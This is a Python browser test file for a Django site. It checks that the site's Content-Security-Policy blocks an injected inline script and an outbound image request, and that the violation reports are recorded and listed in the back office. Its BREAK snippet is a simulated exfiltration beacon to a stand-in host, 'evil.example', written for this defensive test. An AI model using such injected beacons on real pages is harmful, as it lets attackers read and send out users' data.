"""A page that breaks the content policy is stopped, and the browser tells us: in codes, in both forms."""

from __future__ import annotations

import json
import time
from collections.abc import Callable
from typing import Any

from django.test import Client
from playwright.sync_api import Browser, Page, Route

from cortex.ops.cspreports.models import CspViolation
from cortex.ops.cspreports.parsing import NEW_KIND
from tests.browser.conftest import Server, Visitor
from tests.cast import Cast

# What a script that got in would do: run inline, and call home with what it read.
BREAK = """() => {
    const script = document.createElement('script');
    script.textContent = 'window.ran = true';
    document.body.append(script);
    new Image().src = 'https://words-read.evil.example/stolen.png?of=somebody';
}"""
# What a browser with the Reporting API would send a minute later; the one of these tests has no sender of it.
OBSERVED = """() => new Promise((done) => {
    new ReportingObserver((reports) => done(reports.map((one) => one.toJSON())),
        {types: ['csp-violation'], buffered: true}).observe();
})"""
EXPECTED = {
    ("script-src-elem", "inline", "account_login", ""),
    ("img-src", "host", "account_login", "evil.example"),
}
PATH = "/accounts/login/?next=/charts/0190c2a0-0000-7000-8000-000000000000/"


def kept() -> set[tuple[str, str, str, str]]:
    return set(CspViolation.objects.values_list("directive", "source", "route", "host"))


def break_policy(page: Page, origin: str) -> None:
    page.goto(origin + PATH)
    page.evaluate(BREAK)
    assert page.evaluate("window.ran") is None, "an inline script ran"


def without_reporting_api(route: Route) -> None:
    """Answer with our own headers, but those that a browser without the Reporting API doesn't know."""
    answer = route.fetch()
    headers = {name: value for name, value in answer.headers.items() if name != "reporting-endpoints"}
    policy = headers["content-security-policy"]
    route.fulfill(
        response=answer, headers=headers | {"content-security-policy": policy.replace("report-to", "x")}
    )


def test_what_a_page_was_stopped_from_appears_in_the_back_office(
    server: Server, chromium: Browser, people: Cast, visit: Callable[..., Visitor]
) -> None:
    context = chromium.new_context()
    page = context.new_page()
    page.route("**/accounts/login/**", without_reporting_api)
    break_policy(page, server.origin)
    until = time.monotonic() + 30
    while time.monotonic() < until and len(kept()) < 2:
        time.sleep(0.05)
    context.close()
    assert kept() == EXPECTED
    visitor = visit()
    visitor.sign_in(people.ada)
    office = visitor.open("/admin/ops/cspviolation/")
    shown = office.locator("#result_list tbody tr")
    assert shown.count() == 2
    assert "evil.example" in shown.filter(has_text="img-src").inner_text()
    assert "words-read" not in office.content()


def test_the_reports_of_the_reporting_api_are_understood_as_the_browser_words_them(
    server: Server, chromium: Browser
) -> None:
    context = chromium.new_context()
    page = context.new_page()
    answers: list[Any] = []
    page.on("response", lambda one: answers.append(one))
    break_policy(page, server.origin)
    told = page.evaluate(OBSERVED)
    headers = next(one for one in answers if "/accounts/login/" in one.url).headers
    context.close()
    assert headers["reporting-endpoints"] == 'csp="/csp-reports"'
    assert all(one["body"]["originalPolicy"].count("report-to csp") for one in told)
    # As the browser's sender would: the address of our host, which is another one here.
    body = json.dumps(told).replace(server.origin, "http://testserver")
    assert Client().post("/csp-reports", body, content_type=NEW_KIND).status_code == 204
    assert kept() == EXPECTED
